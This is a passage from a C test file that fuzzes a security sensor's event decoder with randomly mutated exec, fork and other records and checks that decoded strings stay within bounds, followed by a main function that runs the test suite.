            r->id = ids[(x >> 16) % (sizeof ids / sizeof *ids)];
            r->str_len[0] %= SENSOR_STR_LEN + 2;
            r->str_len[1] %= SENSOR_STR_LEN + 2;
            r->addr_len %= SENSOR_ADDR_LEN + 2;
            len = sizeof *r + (x >> 24) % 3 - 1;
        } else if (h->kind == SENSOR_EV_EXEC) {
            struct sensor_exec *r = (struct sensor_exec *)buf;
            r->args_len %= SENSOR_ARGS_LEN + 2;
            r->file_len %= SENSOR_FILE_LEN + 2;
            r->cg_len[0] %= SENSOR_CGNAME_LEN + 2;
            r->cg_len[1] %= SENSOR_CGNAME_LEN + 2;
            r->exe.depth %= SENSOR_EXE_DEPTH + 3;
            len = sizeof *r - (x >> 24) % 2;
        } else if (h->kind == SENSOR_EV_FORK) {
            ((struct sensor_fork *)buf)->child_tgid = 1000 + (unsigned)(x >> 20) % 64;
            len = sizeof(struct sensor_fork);
        }
        comb_event ev;
        if (comb_decode(&dec, buf, len, &ev)) {
            decoded++;
            CHECK(ev.type != NULL);
            for (size_t k = 0; k < ev.nargs; k++)
                CHECK(strlen(ev.args[k].value) < sizeof dec.argval[0]);
            if (ev.fd.name)
                CHECK(strlen(ev.fd.name) < sizeof dec.path[0]);
            if (ev.proc.exepath)
                CHECK(strlen(ev.proc.exepath) < COMB_PROC_MAX_PATH);
            for (size_t k = 0; k < ev.proc.nargs; k++)
                CHECK(strlen(ev.proc.args[k]) <= COMB_PROC_MAX_ARGBYTES);
        }
    }
    CHECK(decoded > 1000); /* the valid paths were reached */
    CHECK(dec.malformed > 1000); /* and so were the rejections */
}

int main(void)
{
    comb_err err;
    if (comb_proctable_new(1024, 16, &procs, &err) || comb_ruleset_new(&rs, &err))
        return 1;
    comb_decoder_init(&dec, procs, NULL, NULL, "testhost");
    RUN(test_exec_in_container);
    RUN(test_cwd);
    RUN(test_memfd_exec_and_ancestry);
    RUN(test_network_and_others);
    RUN(test_sendto_sendmsg);
    RUN(test_builtin_rules);
    RUN(test_hostile_records);
    RUN(test_random_records);
    comb_ruleset_free(rs);
    comb_proctable_free(procs);
    return test_summary();
}
